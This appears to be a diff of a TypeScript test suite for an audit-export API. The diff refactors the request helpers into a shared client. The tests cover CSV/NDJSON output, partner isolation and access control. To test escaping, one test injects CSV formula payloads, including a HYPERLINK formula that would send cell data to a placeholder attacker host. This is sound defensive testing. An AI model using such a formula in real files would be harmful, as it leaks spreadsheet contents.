@@ -2,7 +2,8 @@ import { randomUUID } from 'node:crypto';
 import type { IncomingMessage, Server, ServerResponse } from 'node:http';
 import { CustomerEventType, customerStream, SCHEMA_VERSIONS } from '@app/domain';
 import { EVENT_STORE, EventStore, ExpectedRevision, formatPosition } from '@app/event-store';
-import { billingProfile, newCustomer } from '../support/customers';
+import { billingProfile } from '../support/customers';
+import { httpClient } from '../support/http-client';
 import { startTestApp, TestApp } from '../support/test-app';
 import { parseCsv } from '../support/csv';
 
@@ -12,12 +13,6 @@ const fresh = (label: string) => `${label}-${randomUUID().slice(0, 8)}`;
 
 const CSV_HEADER = ['customerId', 'revision', 'position', 'type', 'occurredAt', 'actorSub', 'actorPartnerId', 'actorRoles', 'commandId', 'correlationId', 'data'];
 const FORMULA_START = /^[=+\-@\t\r]/;
-
-interface Written {
-  readonly id: string;
-  readonly revision: number;
-  readonly position: string;
-}
 
 interface AuditRecord {
   revision: number;
@@ -54,26 +49,12 @@ function csvCells(r: AuditRecord): string[] {
 
 describe('audit export over HTTP', () => {
   let t: TestApp;
+  let c: ReturnType<typeof httpClient>;
   let store: EventStore;
 
-  const bearer = async (partnerId: string, extra: { sub?: string; roles?: string[] } = {}) =>
-    `Bearer ${await t.token({ partnerId, sub: extra.sub ?? 'user-x', roles: extra.roles ?? ['admin-agent'] })}`;
-  const get = (auth: string | undefined, path: string, query: Record<string, string | number> = {}) => {
-    const req = t.http.get(path).query(query);
-    return auth ? req.set('Authorization', auth) : req;
-  };
-  const exportOf = (auth: string | undefined, query: Record<string, string>) => asText(get(auth, '/v1/audit/export', query));
-  const write = async (auth: string, method: 'post' | 'put', path: string, body: object, headers: Record<string, string> = {}, status = 200) => {
-    let req = t.http[method](path).set('Authorization', auth);
-    for (const [k, v] of Object.entries(headers)) req = req.set(k, v);
-    return (await req.send(body).expect(status)).body as Written;
-  };
-  const establish = (auth: string, overrides: Record<string, unknown> = {}, headers: Record<string, string> = {}) =>
-    write(auth, 'post', '/v1/customers', newCustomer(overrides), headers, 201);
-  const rename = (auth: string, id: string, companyName: string, headers: Record<string, string> = {}) =>
-    write(auth, 'post', `/v1/customers/${id}/rename`, { companyName }, headers);
+  const exportOf = (auth: string | undefined, query: Record<string, string>) => asText(c.get(auth, '/v1/audit/export', query));
   const history = async (auth: string, id: string) =>
-    (await get(auth, `/v1/customers/${id}/history`, { limit: 1000 }).expect(200)).body.items as Omit<AuditRecord, 'customerId'>[];
+    (await c.get(auth, `/v1/customers/${id}/history`, { limit: 1000 }).expect(200)).body.items as Omit<AuditRecord, 'customerId'>[];
 
   /** Appends straight to the service's event store, with the metadata the command path writes, at a chosen occurredAt. */
   function directWriter() {
@@ -121,29 +102,30 @@ describe('audit export over HTTP', () => {
 
   beforeAll(async () => {
     t = await startTestApp();
+    c = httpClient(t);
     store = t.app.get<EventStore>(EVENT_STORE);
   });
   afterAll(() => t.close());
 
   it("NDJSON of one customer is, line by line, that customer's history items plus customerId", async () => {
     const partnerId = fresh('ndjson');
-    const auth = await bearer(partnerId, { sub: 'writer-1', roles: ['admin-agent', 'auditor'] });
-    const auditor = await bearer(partnerId, { sub: 'auditor-1', roles: ['auditor'] });
+    const auth = await c.bearer(partnerId, { sub: 'writer-1', roles: ['admin-agent', 'auditor'] });
+    const auditor = await c.bearer(partnerId, { sub: 'auditor-1', roles: ['auditor'] });
     const { companyName: _n, ...details } = billingProfile();
 
-    const created = await establish(auth, { companyName: 'Export Co', billingProfile: details }, { 'X-Correlation-Id': 'corr-export-1' });
-    const other = await establish(auth, { companyName: 'Other Co' });
-    await rename(auth, created.id, 'Export Co (EMEA)');
-    await rename(auth, other.id, 'Other Co renamed');
-    await write(auth, 'put', `/v1/customers/${created.id}/profiles/billing`, billingProfile({ companyName: 'Export Co (EMEA)', email: 'billing@export.example.com' }), { 'If-Match': '"1"' });
-    await write(auth, 'post', `/v1/customers/${created.id}/self-purchase/grant`, {});
-    await write(auth, 'post', `/v1/customers/${created.id}/self-purchase/revoke`, { resources: ['AzureSavingsPlan'] });
-    await write(auth, 'post', `/v1/customers/${created.id}/cost-management/enable`, {});
-    await write(auth, 'post', `/v1/customers/${created.id}/cost-management/disable`, {});
+    const created = await c.establish(auth, { companyName: 'Export Co', billingProfile: details }, { 'X-Correlation-Id': 'corr-export-1' });
+    const other = await c.establish(auth, { companyName: 'Other Co' });
+    await c.rename(auth, created.id, 'Export Co (EMEA)');
+    await c.rename(auth, other.id, 'Other Co renamed');
+    await c.putBilling(auth, created.id, 1, billingProfile({ companyName: 'Export Co (EMEA)', email: 'billing@export.example.com' }));
+    await c.post(auth, created.id, 'self-purchase/grant');
+    await c.post(auth, created.id, 'self-purchase/revoke', { resources: ['AzureSavingsPlan'] });
+    await c.post(auth, created.id, 'cost-management/enable');
+    await c.post(auth, created.id, 'cost-management/disable');
     // The same tenant as another partner's customer: never part of this partner's export.
-    const lookalike = await bearer(`${partnerId}-b`);
-    await establish(lookalike, { tenantId: created.id, companyName: 'Same tenant, other partner' });
-    await rename(lookalike, created.id, 'Other partner rename');
+    const lookalike = await c.bearer(`${partnerId}-b`);
+    await c.establish(lookalike, { tenantId: created.id, companyName: 'Same tenant, other partner' });
+    await c.rename(lookalike, created.id, 'Other partner rename');
 
     const items = await history(auditor, created.id);
     expect(items.map((i) => i.type)).toEqual([
@@ -176,17 +158,14 @@ describe('audit export over HTTP', () => {
     // Subjects and correlation ids are caller-controlled text that lands in cells of their own.
     const evilSub = '=HYPERLINK("https://evil.example/?leak="&A1,"open me")\nsecond line';
     const tabSub = '\t@SUM(1+1)';
-    const evil = await bearer(partnerId, { sub: evilSub, roles: ['admin-agent', 'auditor'] });
-    const tabbed = await bearer(partnerId, { sub: tabSub });
-    const plain = await bearer(partnerId, { sub: 'plain-user' });
-    const auditor = await bearer(partnerId, { roles: ['auditor'] });
+    const evil = await c.bearer(partnerId, { sub: evilSub, roles: ['admin-agent', 'auditor'] });
+    const tabbed = await c.bearer(partnerId, { sub: tabSub });
+    const plain = await c.bearer(partnerId, { sub: 'plain-user' });
+    const auditor = await c.bearer(partnerId, { roles: ['auditor'] });
 
-    const created = await establish(evil, { companyName: '=SUM(A1:A9)' }, { 'X-Correlation-Id': '-2+3' });
-    await rename(tabbed, created.id, 'Contoso, "The Best" Ltd', { 'X-Correlation-Id': '@SUM(1+1),"x"' });
-    await write(plain, 'put', `/v1/customers/${created.id}/profiles/billing`, billingProfile({ companyName: '+Plus, Ltd', defaultAddress: { addressLine1: '1, "Quoted" Way', city: 'Redmond', postalCode: '98052', country: 'US' } }), {
-      'If-Match': '"1"',
-      'X-Correlation-Id': 'plain-corr',
-    });
+    const created = await c.establish(evil, { companyName: '=SUM(A1:A9)' }, { 'X-Correlation-Id': '-2+3' });
+    await c.rename(tabbed, created.id, 'Contoso, "The Best" Ltd', { 'X-Correlation-Id': '@SUM(1+1),"x"' });
+    await c.putBilling(plain, created.id, 1, billingProfile({ companyName: '+Plus, Ltd', defaultAddress: { addressLine1: '1, "Quoted" Way', city: 'Redmond', postalCode: '98052', country: 'US' } }), { 'X-Correlation-Id': 'plain-corr' });
 
     const ndjson = await exportOf(auditor, { customer: created.id }).expect(200);
     const records = ndjsonLines(ndjson.body as string).map((l) => JSON.parse(l) as AuditRecord);
@@ -258,9 +237,9 @@ describe('audit export over HTTP', () => {
     const r9 = await put(acme, c1, { type: 'CostManagementEnabled', data: {} }, 10 - 1 / 60_000); // the last millisecond before `to`
     await put(acme, c2, renamed('Two Co backdated', 'Two Co later'), 11);
     // A write over HTTP now, far outside the range.
-    const now = await establish(await bearer(acme), { companyName: 'Now Co' });
+    const now = await c.establish(await c.bearer(acme), { companyName: 'Now Co' });
 
-    const auditor = await bearer(acme, { roles: ['auditor'] });
+    const auditor = await c.bearer(acme, { roles: ['auditor'] });
     const inRange = [r2, r4, r5, r7, r9];
     const range = { from: at(0), to: at(10) };
 
@@ -279,7 +258,7 @@ describe('audit export over HTTP', () => {
     expect(rows.slice(1).map((r) => r.slice(0, -1))).toEqual(inRange.map(csvCells));
 
     // The lookalike partner sees only its own, in log order.
-    const euAuditor = await bearer(acmeEu, { roles: ['auditor'] });
+    const euAuditor = await c.bearer(acmeEu, { roles: ['auditor'] });
     const eu = await exportOf(euAuditor, range).expect(200);
     expect(ndjsonLines(eu.body as string).map((l) => JSON.parse(l))).toEqual(log.filter((e) => e.partner === acmeEu).map((e) => e.record));
 
@@ -304,8 +283,8 @@ describe('audit export over HTTP', () => {
 
   it('answers 400 without a customer or a range, for from >= to, an unknown format, a bad customer id or a bad instant', async () => {
     const partnerId = fresh('bad');
-    const auth = await bearer(partnerId, { roles: ['admin-agent'] });
-    const created = await establish(auth);
+    const auth = await c.bearer(partnerId, { roles: ['admin-agent'] });
+    const created = await c.establish(auth);
     const bad: Record<string, string>[] = [
       {},
       { format: 'csv' },
@@ -320,7 +299,7 @@ describe('audit export over HTTP', () => {
       { to: '2021-13-01T00:00:00Z' },
     ];
     for (const query of bad) {
-      const res = await get(auth, '/v1/audit/export', query);
+      const res = await c.get(auth, '/v1/audit/export', query);
       expect({ query, status: res.status }).toEqual({ query, status: 400 });
       expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
       expect(res.body).toMatchObject({ status: 400, code: 'VALIDATION_FAILED' });
@@ -329,37 +308,37 @@ describe('audit export over HTTP', () => {
 
   it("answers 404 for another partner's customer exactly as for a missing one", async () => {
     const ownerPartner = fresh('owner');
-    const created = await establish(await bearer(ownerPartner));
-    const other = await bearer(fresh('other'), { roles: ['auditor'] });
+    const created = await c.establish(await c.bearer(ownerPartner));
+    const other = await c.bearer(fresh('other'), { roles: ['auditor'] });
 
     for (const format of ['ndjson', 'csv']) {
-      const foreign = await get(other, '/v1/audit/export', { customer: created.id, format }).expect(404);
-      const missing = await get(other, '/v1/audit/export', { customer: randomUUID(), format }).expect(404);
+      const foreign = await c.get(other, '/v1/audit/export', { customer: created.id, format }).expect(404);
+      const missing = await c.get(other, '/v1/audit/export', { customer: randomUUID(), format }).expect(404);
       expect(foreign.headers['content-type']).toMatch(/^application\/problem\+json/);
       expect(foreign.body).toMatchObject({ status: 404, code: 'CUSTOMER_NOT_FOUND' });
       expect(foreign.body).toEqual(missing.body);
       expect(foreign.headers['content-disposition']).toBeUndefined();
     }
     // The owner's auditor gets it.
-    await get(await bearer(ownerPartner, { roles: ['auditor'] }), '/v1/audit/export', { customer: created.id }).expect(200);
+    await c.get(await c.bearer(ownerPartner, { roles: ['auditor'] }), '/v1/audit/export', { customer: created.id }).expect(200);
   });
 
   it('is for auditors and admin agents only; 401 without a valid token', async () => {
     const partnerId = fresh('roles');
-    const created = await establish(await bearer(partnerId));
+    const created = await c.establish(await c.bearer(partnerId));
     const query = { customer: created.id };
     for (const role of ['sales-agent', 'helpdesk-agent', 'billing-admin']) {
-      const res = await get(await bearer(partnerId, { roles: [role] }), '/v1/audit/export', query).expect(403);
+      const res = await c.get(await c.bearer(partnerId, { roles: [role] }), '/v1/audit/export', query).expect(403);
       expect(res.body.code).toBe('FORBIDDEN');
       expect(res.headers['content-disposition']).toBeUndefined();
     }
     for (const role of ['auditor', 'admin-agent']) {
-      const res = await exportOf(await bearer(partnerId, { roles: [role] }), query).expect(200);
+      const res = await exportOf(await c.bearer(partnerId, { roles: [role] }), query).expect(200);
       expect(ndjsonLines(res.body as string)).toHaveLength(1);
     }
-    await get(undefined, '/v1/audit/export', query).expect(401);
-    await get(undefined, '/v1/audit/export', { from: '2021-06-01T00:00:00Z' }).expect(401);
-    await get('Bearer not-a-token', '/v1/audit/export', query).expect(401);
+    await c.get(undefined, '/v1/audit/export', query).expect(401);
+    await c.get(undefined, '/v1/audit/export', { from: '2021-06-01T00:00:00Z' }).expect(401);
+    await c.get('Bearer not-a-token', '/v1/audit/export', query).expect(401);
   });
 
   it('streams an export of hundreds of records completely, across page boundaries, skipping a lookalike partner in between', async () => {
@@ -381,7 +360,7 @@ describe('audit export over HTTP', () => {
       if (batch < 6) await direct(lookalike, noise, Array.from({ length: 100 }, (_, i) => renamed(`Noise ${i}`, `Noise ${i + 1}`)), occurredAt);
     }
     expect(expected).toHaveLength(1000);
-    const auditor = await bearer(partnerId, { roles: ['auditor'] });
+    const auditor = await c.bearer(partnerId, { roles: ['auditor'] });
 
     const check = (records: AuditRecord[]) => {
       expect(records).toHaveLength(1000);
@@ -416,7 +395,7 @@ describe('audit export over HTTP', () => {
     expect(rows).toHaveLength(1001);
     expect(rows.slice(1).map((r) => r.slice(0, -1))).toEqual(customerRecords.map(csvCells));
 
-    const lookalikeAuditor = await bearer(lookalike, { roles: ['auditor'] });
+    const lookalikeAuditor = await c.bearer(lookalike, { roles: ['auditor'] });
     const noiseExport = await exportOf(lookalikeAuditor, { from: '2022-01-01T00:00:00Z', to: '2022-01-02T00:00:00Z' }).expect(200);
     expect(ndjsonLines(noiseExport.body as string)).toHaveLength(601);
 
